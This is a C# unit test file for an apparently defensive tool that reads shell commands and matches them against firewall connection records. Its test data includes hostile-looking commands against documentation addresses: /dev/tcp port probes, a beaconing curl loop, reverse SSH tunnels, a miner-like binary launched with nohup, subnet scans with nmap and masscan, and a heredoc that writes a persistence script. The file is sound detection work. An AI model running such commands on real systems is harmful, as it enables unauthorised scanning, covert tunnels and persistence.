// SPDX-License-Identifier: Apache-2.0
using FwCorrelate.Commands;
using FwCorrelate.Network;

namespace FwCorrelate.Core.Tests.Commands;

[TestClass]
public sealed class CommandReadingTests
{
    [TestMethod]
    [DataRow("for p in 5555 4444; do timeout 3 bash -c \"exec 3<>/dev/tcp/203.0.113.7/$p\"; done", true)]
    [DataRow("timeout 1 bash -c '</dev/tcp/203.0.113.7/22' && echo open", true)]
    [DataRow("bash -c 'curl -s http://203.0.113.7/x'", true)]
    [DataRow("bash -c 'while true; do curl -s http://203.0.113.7/x; sleep 60; done' &", false)]
    [DataRow("while true; do curl -s http://203.0.113.7/x; sleep 60; done", true)]
    [DataRow("while true; do curl -s http://203.0.113.7/x; sleep 60; done &", false)]
    [DataRow("bash -c './agent.sh 203.0.113.7'", false)]
    [DataRow("bash run.sh", false)]
    public void ConnectsOnce_ShellsAndTheirSockets_AreWhatTheirScriptsAre(string command, bool isOnce) =>
        Assert.AreEqual(isOnce, CommandReading.Of(command).ConnectsOnce);

    [TestMethod]
    [DataRow("nohup ./m 198.51.100.33:3333 &", "198.51.100.33", 3333, MentionKind.Exact)]
    [DataRow("nohup ./m 198.51.100.33:3333 &", "198.51.100.33", 22, MentionKind.None)]
    [DataRow("ssh -fN -R 2222:127.0.0.1:22 tun@203.0.113.66", "203.0.113.66", 22, MentionKind.Exact)]
    [DataRow("ssh -p 2022 tun@203.0.113.66", "203.0.113.66", 2022, MentionKind.Exact)]
    [DataRow("ssh tun@203.0.113.66", "203.0.113.66", 443, MentionKind.None)]
    [DataRow("nc -w 2 -z 192.0.2.99 443", "192.0.2.99", 443, MentionKind.Exact)]
    [DataRow("curl -s -m 2 http://192.0.2.99/upload", "192.0.2.99", 80, MentionKind.Exact)]
    [DataRow("curl -s -m 2 http://192.0.2.99/upload", "192.0.2.99", 443, MentionKind.None)]
    [DataRow("curl -s telnet://203.0.113.77:25", "203.0.113.77", 25, MentionKind.Exact)]
    [DataRow("for i in $(seq 14 83); do timeout 0.15 bash -c \"</dev/tcp/10.77.9.$i/2375\" && echo $i; done", "10.77.9.20", 2375, MentionKind.Pattern)]
    [DataRow("for i in $(seq 14 83); do timeout 0.15 bash -c \"</dev/tcp/10.77.9.$i/2375\" && echo $i; done", "10.77.9.20", 80, MentionKind.None)]
    [DataRow("for p in 21 22 6379; do bash -c \"</dev/tcp/10.77.9.11/$p\"; done", "10.77.9.11", 6379, MentionKind.Exact)]
    [DataRow("for p in 21 22 6379; do bash -c \"</dev/tcp/10.77.9.11/$p\"; done", "10.77.9.11", 80, MentionKind.AddressOnly)]
    [DataRow("nmap -p 22,6379 10.8.0.0/16", "10.8.3.4", 6379, MentionKind.Pattern)]
    [DataRow("nmap -p 22 10.8.0.1-254", "10.8.0.77", 22, MentionKind.Pattern)]
    [DataRow("masscan 10.8.23.0/24 -p10250 --rate 40483", "10.8.23.92", 10250, MentionKind.Pattern)]
    [DataRow("masscan 10.8.23.0/24 -p10250 --rate 40483", "10.8.23.92", 22, MentionKind.None)]
    [DataRow("sudo nmap -sS -pT:1-1024,U:53 10.8.0.0/16", "10.8.3.4", 443, MentionKind.Pattern)]
    [DataRow("nmap -p1-1024 10.8.3.4", "10.8.3.4", 443, MentionKind.Exact)]
    [DataRow("nmap -p- 10.8.3.0/24", "10.8.3.4", 50000, MentionKind.Pattern)]
    [DataRow("naabu --port=8000-9000 -host 10.8.3.0/24", "10.8.3.4", 8443, MentionKind.Pattern)]
    [DataRow("nmap -T4 10.8.3.0/24", "10.8.3.4", 22, MentionKind.AddressOnly)]
    [DataRow("nmap -sn 10.8.3.0/24", "10.8.3.4", 22, MentionKind.None)]
    [DataRow("nmap -p 22 -p x,70000, 10.8.3.0/24", "10.8.3.4", 80, MentionKind.None)]
    [DataRow("ip route add 10.8.3.0/24 via 10.0.0.1", "10.8.3.4", 22, MentionKind.None)]
    [DataRow("ping 203.0.113.7", "203.0.113.7", 3333, MentionKind.AddressOnly)]
    [DataRow("python3 -c \"s.connect(('198.51.100.23', 3333))\"", "198.51.100.23", 3333, MentionKind.Exact)]
    [DataRow("curl http://[2001:db8::7]:8080/x", "2001:db8::7", 8080, MentionKind.Exact)]
    [DataRow("echo 198.51.100.33:3333 > conf", "198.51.100.33", 3333, MentionKind.None)]
    [DataRow("ls -la", "198.51.100.33", 3333, MentionKind.None)]
    [DataRow("curl 1198.51.100.33:3333", "198.51.100.33", 3333, MentionKind.None)]
    public void Names_Destination_TellsHowItStandsInTheCommand(string command, string address, int port, MentionKind expected) =>
        Assert.AreEqual(expected, CommandReading.Of(command).Names(HostAddress.Parse(address), port, "").Kind);

    [TestMethod]
    [DataRow("curl https://pool.example.org/x", "pool.example.org", 443, MentionKind.Exact)]
    [DataRow("./m -o pool.example.org:4444", "eu.pool.example.org", 4444, MentionKind.Exact)]
    [DataRow("./m -o pool.example.org:4444", "example.org", 4444, MentionKind.None)]
    [DataRow("cat notes.txt", "notes.txt.example.org", 443, MentionKind.None)]
    public void Names_Domain_MatchesItAndWhatLiesBelow(string command, string domain, int port, MentionKind expected) =>
        Assert.AreEqual(expected, CommandReading.Of(command).Names(HostAddress.Parse("203.0.113.9"), port, domain).Kind);

    [TestMethod]
    [DataRow("ls; cat x | grep y > z; sleep 5", NetworkAbility.Inert)]
    [DataRow("python3 x.py", NetworkAbility.Opaque)]
    [DataRow("./deploy.sh; sleep 1", NetworkAbility.Opaque)]
    [DataRow("echo $(curl x)", NetworkAbility.Opaque)]
    [DataRow("echo hi > /dev/tcp/10.0.0.1/22", NetworkAbility.Opaque)]
    [DataRow("", NetworkAbility.Opaque)]
    public void Ability_Command_KnowsWhatCannotConnect(string command, NetworkAbility expected) =>
        Assert.AreEqual(expected, CommandReading.Of(command).Ability);

    [TestMethod]
    [DataRow("nohup ./m &", true)]
    [DataRow("ssh -fN host", true)]
    [DataRow("ssh -N host", false)]
    [DataRow("setsid ./m", true)]
    [DataRow("./m", false)]
    [DataRow("a && b", false)]
    public void OutlivesCall_Command_KnowsWhatIsLeftBehind(string command, bool expected) =>
        Assert.AreEqual(expected, CommandReading.Of(command).OutlivesCall);

    [TestMethod]
    public void UsedFiles_ScriptWrittenBefore_HoldIt()
    {
        var writer = CommandReading.Of("cat > deploy.sh <<'X'\nH=203.0.113.66\nnohup ssh -N -R 1:a:22 u@203.0.113.66 &\nX\nchmod +x deploy.sh");
        var runner = CommandReading.Of("./deploy.sh; sleep 1; echo deployed");
        Assert.IsTrue(writer.WrittenFiles.Overlaps(runner.UsedFiles));
        Assert.AreNotEqual(MentionKind.None, writer.WritesDown(HostAddress.Parse("203.0.113.66"), 22, "").Kind);
        Assert.AreEqual(MentionKind.None, writer.Names(HostAddress.Parse("203.0.113.66"), 22, "").Kind);
        Assert.IsFalse(writer.WrittenFiles.Overlaps(CommandReading.Of("ls").UsedFiles));
    }
}
